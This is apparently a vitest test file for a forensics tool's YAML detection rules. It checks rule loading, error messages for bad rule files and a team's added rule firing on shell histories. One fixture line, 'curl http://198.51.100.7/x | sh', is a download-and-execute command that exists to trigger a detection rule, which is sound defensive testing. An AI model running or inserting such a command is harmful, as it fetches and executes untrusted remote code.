/**
 * The analysis rules as data: the stock YAML files load and validate, a bad file is refused with
 * its file, line and reason, and a team's directory (SENTINEL_ANALYSIS_RULES_DIR) adds rules that
 * fire, through the analyse action against moto S3 too.
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CreateBucketCommand } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { destroyAwsClients, type AwsClients } from '../../../src/aws/clients.js';
import { loadConfig } from '../../../src/config.js';
import { ConfigError } from '../../../src/errors.js';
import { createSilentLogger } from '../../../src/logger.js';
import { analyseArtifacts, type AnalyseArtifactsDetails } from '../../../src/pipeline/actions/forensics/analyseArtifacts.js';
import { applyRules, buildMatchContext, parseArtifact } from '../../../src/pipeline/forensics/analysisRules.js';
import { analysisRulesFor, loadAnalysisRules, parseAnalysisRulesFile, stockAnalysisRulesDir } from '../../../src/pipeline/forensics/loadAnalysisRules.js';
import { createMotoClients, MOTO_REGION, uniqueName } from '../../support/aws.js';

const dirs: string[] = [];
function ruleDir(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'sentinel-rules-'));
  dirs.push(dir);
  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
  return dir;
}
afterAll(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

/** The ConfigError's problems, one line each (file:line:col: path: reason). */
function problemsOf(fn: () => unknown): string[] {
  try {
    fn();
  } catch (err) {
    expect(err).toBeInstanceOf(ConfigError);
    expect((err as ConfigError).message).toMatch(/^Invalid analysis rules:/);
    return (err as ConfigError).details.problems as string[];
  }
  throw new Error('expected the rules to be refused');
}

const TEAM_RULE = `# our own rule
rules:
  - id: team-kubectl-exec-from-shell
    title: kubectl exec typed on the instance
    severity: high
    sources: [volatile:histories, disk:histories]
    match:
      all:
        - { field: text, matches: '\\bkubectl\\s+exec\\b' }
        - not: { field: text, matches: '^\\s*#' }
    description: Someone reached into the cluster from this host.
`;

describe('the stock rules', () => {
  it('are the YAML files of config/analysis-rules, loaded in name order and validated', () => {
    const files = readdirSync(stockAnalysisRulesDir()).filter((f) => f.endsWith('.yaml')).sort();
    expect(files.length).toBeGreaterThan(1);
    const rules = loadAnalysisRules();
    expect(rules.length).toBeGreaterThan(30);
    // The first file's first rule leads; the CloudTrail file (last by name) ends the list.
    expect(rules[0]!.id).toBe('net-finding-remote-ip');
    expect(rules[rules.length - 1]!.id).toBe('cloudtrail-known-bad-ip');
    // YAML aliases share source lists between rules of one file.
    expect(rules.find((r) => r.id === 'crypto-miner')!.sources).toEqual(rules.find((r) => r.id === 'reverse-shell')!.sources);
  });

  it('are what analysisRulesFor gives when no directory of the team is set', () => {
    expect(analysisRulesFor({}).map((r) => r.id)).toEqual(loadAnalysisRules().map((r) => r.id));
  });
});

describe('a bad rule file', () => {
  const cases: { name: string; text: string; problem: RegExp }[] = [
    { name: 'YAML syntax', text: 'rules:\n  - id: a\n    title: [unclosed\n', problem: /bad\.yaml:\d+:\d+: / },
    { name: 'a duplicate key', text: 'rules:\n  - id: a\n    id: b\n', problem: /bad\.yaml:3:5: .*[Mm]ap keys must be unique/ },
    {
      name: 'an unknown key',
      text: 'rules:\n  - id: x\n    title: t\n    severity: high\n    sources: [disk:logs]\n    match: { field: text, matches: a }\n    description: d\n    sevrity: low\n',
      problem: /bad\.yaml:8:5: rules\[0\]\.sevrity: unknown key/,
    },
    {
      name: 'a regular expression that does not compile',
      text: 'rules:\n  - id: x\n    title: t\n    severity: high\n    sources: [disk:logs]\n    match: { field: text, matches: "a(b" }\n    description: d\n',
      problem: /bad\.yaml:6:36: rules\[0\]\.match\.matches: not a regular expression .*Unterminated group/,
    },
    {
      name: 'an unknown artifact kind',
      text: 'rules:\n  - id: x\n    title: t\n    severity: high\n    sources: [disk:logs, disk:nope]\n    match: { field: text, matches: a }\n    description: d\n',
      problem: /bad\.yaml:5:26: rules\[0\]\.sources\[1\]: unknown artifact kind "disk:nope"/,
    },
    {
      name: 'a field its sources do not provide',
      text: 'rules:\n  - id: x\n    title: t\n    severity: high\n    sources: [cloudtrail]\n    match: { field: text, matches: a }\n    description: d\n',
      problem: /bad\.yaml:6:12: rules\[0\]\.match: no source of this rule provides the field "text"/,
    },
    {
      name: 'two operators in one condition',
      text: 'rules:\n  - id: x\n    title: t\n    severity: high\n    sources: [disk:logs]\n    match: { field: text, matches: a, equals: b }\n    description: d\n',
      problem: /bad\.yaml:6:12: rules\[0\]\.match: one operator per condition, not matches and equals/,
    },
    {
      name: 'a missing severity',
      text: 'rules:\n  - id: x\n    title: t\n    sources: [disk:logs]\n    match: { field: text, matches: a }\n    description: d\n',
      problem: /bad\.yaml:2:5: rules\[0\]\.severity: Invalid option: expected one of "critical"\|"high"\|"medium"\|"low"/,
    },
  ];
  for (const c of cases) {
    it(`is refused with its file, line and reason: ${c.name}`, () => {
      const dir = ruleDir({ 'bad.yaml': c.text });
      const problems = problemsOf(() => loadAnalysisRules({ extraDir: dir }));
      expect(problems.some((p) => p.startsWith(join(dir, 'bad.yaml')) && c.problem.test(p)), problems.join('\n')).toBe(true);
    });
  }

  it('refuses the whole set, and names a rule id defined twice in both places', () => {
    const dir = ruleDir({ 'a.yaml': TEAM_RULE, 'b.yml': TEAM_RULE.replace('team-kubectl', 'team-kubectl'), 'c.yaml': TEAM_RULE.replace('team-kubectl-exec-from-shell', 'reverse-shell') });
    const problems = problemsOf(() => loadAnalysisRules({ extraDir: dir }));
    expect(problems).toEqual([
      `${join(dir, 'b.yml')}:3:5: rule id "team-kubectl-exec-from-shell" is already defined at ${join(dir, 'a.yaml')}:3:5 (ids are unique: stored findings name them)`,
      expect.stringMatching(new RegExp(`^${join(dir, 'c.yaml')}:3:5: rule id "reverse-shell" is already defined at .*config/analysis-rules/20-processes\\.yaml:\\d+:5 `)),
    ]);
  });

  it('is refused by the analyse action, which fails naming it before it reads anything', async () => {
    const dir = ruleDir({ 'bad.yaml': 'rules:\n  - id: Bad Id\n' });
    const settings = { ...loadConfig({ env: {}, envFile: false }).pipeline, evidenceBucket: 'never-used', analysisRulesDir: dir };
    await expect(
      analyseArtifacts(
        { input: { artifacts: [{ kind: 'volatile:histories', name: 'h', text: 'ls\n' }], window: { since: '2025-05-21T13:30:00Z', until: '2025-05-21T15:00:00Z' } } as never, actor: 'cli', incidentId: 'inc-bad-rules' },
        { aws: { s3: createMotoClients().s3 }, settings, logger: createSilentLogger(), now: () => new Date() },
      ),
    ).rejects.toThrow(new RegExp(`bad\\.yaml:2:9: rules\\[0\\]\\.id: an id of lower-case letters`));
  });

  it('names the file it came from when parsed alone', () => {
    const problems = problemsOf(() => parseAnalysisRulesFile('rules: 3\n', 'inline.yaml'));
    expect(problems).toEqual([expect.stringMatching(/^inline\.yaml:1:8: rules: /)]);
  });
});

describe("a team's rule directory", () => {
  it('adds its rules after the stock ones, and they fire', () => {
    const dir = ruleDir({ 'team.yaml': TEAM_RULE, 'README.md': 'not a rule file' });
    const rules = loadAnalysisRules({ extraDir: dir });
    const stock = loadAnalysisRules();
    expect(rules.map((r) => r.id)).toEqual([...stock.map((r) => r.id), 'team-kubectl-exec-from-shell']);
    const team = rules[rules.length - 1]!;
    // The alias volatile:histories is read as its kind.
    expect(team.sources).toEqual(['volatile:shell-histories', 'disk:histories']);
    const ctx = buildMatchContext({});
    const hit = (text: string) => applyRules('volatile:shell-histories', parseArtifact('volatile:shell-histories', text), ctx, rules).map((m) => m.rule.id);
    expect(hit('kubectl exec -it web-0 -- sh\n')).toEqual(['team-kubectl-exec-from-shell']);
    expect(hit('# kubectl exec is how we debug\nkubectl get pods\n')).toEqual([]);
    // Without the directory the stock rules do not know it.
    expect(applyRules('volatile:shell-histories', parseArtifact('volatile:shell-histories', 'kubectl exec -it web-0 -- sh\n'), ctx)).toEqual([]);
  });

  describe('through the analyse action (moto S3)', () => {
    let aws: AwsClients;
    beforeAll(() => {
      aws = createMotoClients();
    });
    afterAll(() => destroyAwsClients(aws));

    it('reports a finding of the team rule (SENTINEL_ANALYSIS_RULES_DIR) beside the stock ones', async () => {
      const dir = ruleDir({ '50-team.yaml': TEAM_RULE });
      const bucket = uniqueName('rules');
      await aws.s3.send(new CreateBucketCommand({ Bucket: bucket, CreateBucketConfiguration: { LocationConstraint: MOTO_REGION } }));
      const settings = { ...loadConfig({ env: { SENTINEL_ANALYSIS_RULES_DIR: dir }, envFile: false }).pipeline, evidenceBucket: bucket };
      expect(settings.analysisRulesDir).toBe(dir);
      const text = 'kubectl exec -it web-0 -- sh\ncurl http://198.51.100.7/x | sh\n';
      const result = await analyseArtifacts(
        {
          input: { artifacts: [{ kind: 'volatile:histories', name: 'h', text, sha256: createHash('sha256').update(text).digest('hex') }], window: { since: '2025-05-21T13:30:00Z', until: '2025-05-21T15:00:00Z' } } as never,
          actor: 'cli',
          incidentId: uniqueName('inc-team-rule'),
        },
        { aws: { s3: aws.s3 }, settings, logger: createSilentLogger(), now: () => new Date('2025-05-21T15:10:00Z') },
      );
      expect(result.status).toBe('succeeded');
      const d = result.details as AnalyseArtifactsDetails;
      expect(d.findings.map((f) => [f.ruleId, f.severity, f.evidence.lines])).toEqual([
        ['download-and-execute', 'high', [2]],
        ['team-kubectl-exec-from-shell', 'high', [1]],
      ]);
      expect(d.rules).toBe(loadAnalysisRules().length + 1);
    });
  });
});
